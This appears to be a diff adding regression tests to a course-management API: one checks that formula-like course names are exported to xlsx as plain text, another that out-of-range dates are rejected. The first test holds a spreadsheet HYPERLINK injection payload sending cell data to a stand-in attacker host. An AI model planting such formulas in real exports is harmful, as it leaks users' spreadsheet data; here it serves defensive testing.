@@ -288,3 +288,44 @@ async def test_course_list_download(env: Env) -> None:
     assert rows[0][:3] == ["期数", "课程编号", "课程名称"] and rows[0][-1] == "已选人数"
     assert rows[1][1:2] + rows[1][4:7] + rows[1][-2:] == ["L1", "专业科目", 24, 150, 5, 1]
     assert rows[2][10:13] == ["通用", "不限", "不限"]
+
+
+async def test_course_list_download_stores_formula_like_names_as_text(env: Env) -> None:
+    """Issue 12 item 5: a course named like a formula comes back from courses.xlsx as text."""
+    import io
+
+    from openpyxl import load_workbook
+
+    hyperlink = '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")'
+    await env.client.post("/v1/terms", headers=env.city, json=TERM_BODY)
+    created = await env.client.post(
+        "/v1/terms/2602/courses", headers=env.city, json=course_body("F1", name=hyperlink, payee="@SUM(A1)")
+    )
+    assert created.status_code == 201, created.text
+    me = await add_teacher(env.container)
+    response = await env.client.get("/v1/terms/2602/courses.xlsx", headers=env.teacher(me))
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet is not None
+    name, payee = sheet.cell(row=2, column=3), sheet.cell(row=2, column=9)
+    assert (name.value, name.data_type) == (hyperlink, "s")
+    assert (payee.value, payee.data_type) == ("@SUM(A1)", "s")
+    assert name.quotePrefix and payee.quotePrefix
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("selection_opens_at", "0001-01-01T00:00:00+01:00"),
+        ("payment_due_at", "9999-12-31T23:59:59-14:00"),
+        ("study_ends_on", "9999-12-31"),
+    ],
+)
+async def test_dates_at_the_ends_of_the_calendar_are_a_422_not_a_500(env: Env, field: str, value: str) -> None:
+    """Issue 12 item 8: converting these to UTC overflowed (a 500)."""
+    created = await env.client.post("/v1/terms", headers=env.city, json={**TERM_BODY, field: value})
+    assert created.status_code == 422, created.text
+    assert created.json()["code"] == "validation_failed"
+    await env.client.post("/v1/terms", headers=env.city, json=TERM_BODY)
+    changed = await env.client.patch("/v1/terms/2602", headers=env.city, json={field: value})
+    assert changed.status_code == 422, changed.text
